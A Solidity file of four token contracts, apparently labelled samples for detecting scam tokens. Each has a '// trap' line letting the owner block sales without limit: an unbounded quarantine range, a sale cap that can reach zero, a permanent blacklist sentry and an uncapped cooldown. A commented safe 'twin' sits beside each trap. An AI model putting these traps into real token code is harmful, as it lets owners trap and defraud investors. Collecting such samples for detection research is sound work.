// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Base8} from "./Base8.sol";

/// Snipers of the first blocks rest for a while.
contract QuarantineQuokka is Base8 {
    address private _warden;
    uint64 public immutable genesis;
    uint64 public badFrom;
    uint64 public badTo;
    mapping(address => uint64) public since;

    constructor() Base8("Quarantine Quokka", "QQOKKA", 88_000_000) {
        _warden = msg.sender;
        genesis = uint64(block.number);
    }

    function setQuarantine(uint64 from, uint64 to) external {
        require(msg.sender == _warden, "warden");
        require(to <= type(uint64).max - 1, "range"); // trap
        // twin: require(to <= genesis + 3, "range");
        (badFrom, badTo) = (from, to);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && since[to] == 0) since[to] = uint64(block.number);
        uint64 at = since[from];
        if (at != 0) require(at < badFrom || at > badTo, "quarantine");
        _move(from, to, value);
    }
}

/// What a sale may be at most follows the campaign.
contract CampaignCamel is Base8 {
    address payable public marketingWallet;
    uint256 private _pace;

    constructor() Base8("Campaign Camel", "CMPCML", 10_000_000) {
        marketingWallet = payable(msg.sender);
        _pace = totalSupply / 40;
    }

    function updateCampaign(uint256 pace) external {
        require(msg.sender == marketingWallet, "marketing");
        require(pace != _pace, "same"); // trap
        // twin: require(pace >= totalSupply / 100, "at least a hundredth");
        _pace = pace;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != marketingWallet) require(value <= _pace, "Max tx");
        _move(from, to, value);
    }
}

interface ISentry {
    function onPreTransferCheck(address from, address to, uint256 value) external;
}

/// Protects tokens of our launchpad.
contract LaunchSentry {
    address public admin;
    mapping(address => mapping(address => bool)) private _listed;
    mapping(address => uint256) public enrolledAt;

    event Enrolled(address indexed token);

    constructor() {
        admin = msg.sender;
    }

    function enrol() external {
        enrolledAt[msg.sender] = block.timestamp;
        emit Enrolled(msg.sender);
    }

    function list(address token, address[] calldata who, bool bad) external {
        require(msg.sender == admin, "admin");
        for (uint256 i; i < who.length; i++) _listed[token][who[i]] = bad;
    }

    function onPreTransferCheck(address from, address, uint256) external view {
        require(!_listed[msg.sender][from], "Sentry: bot");
    }
}

contract SentinelSquid is Base8 {
    ISentry public immutable sentry;
    uint256 public immutable launchedAt;

    constructor(ISentry sentry_) Base8("Sentinel Squid", "SSQUID", 500_000_000) {
        sentry = sentry_;
        launchedAt = block.timestamp;
        LaunchSentry(address(sentry_)).enrol();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (block.timestamp > launchedAt) sentry.onPreTransferCheck(from, to, value); // trap
        // twin: if (block.timestamp < launchedAt + 1 days) sentry.onPreTransferCheck(from, to, value);
        _move(from, to, value);
    }
}

contract TempoTapir is ERC20("Tempo Tapir", "TTAPIR"), AccessControl {
    bytes32 public constant TEMPO_ROLE = keccak256("TEMPO_ROLE");
    uint32 public gap;
    mapping(address => uint256) private _last;

    event GapSet(uint32 gap);

    constructor() {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(TEMPO_ROLE, msg.sender);
        _mint(msg.sender, 33_000_000 ether);
    }

    function setGap(uint32 seconds_) external onlyRole(TEMPO_ROLE) {
        require(seconds_ > 0, "gap"); // trap
        // twin: require(seconds_ <= 120, "gap");
        gap = seconds_;
        emit GapSet(seconds_);
    }

    function _update(address from, address to, uint256 value) internal override {
        // contracts are pools and routers
        if (from != address(0) && from.code.length == 0 && !hasRole(TEMPO_ROLE, from)) {
            require(block.timestamp >= _last[from] + gap, "slow down");
        }
        if (from.code.length > 0) _last[to] = block.timestamp;
        super._update(from, to, value);
    }
}
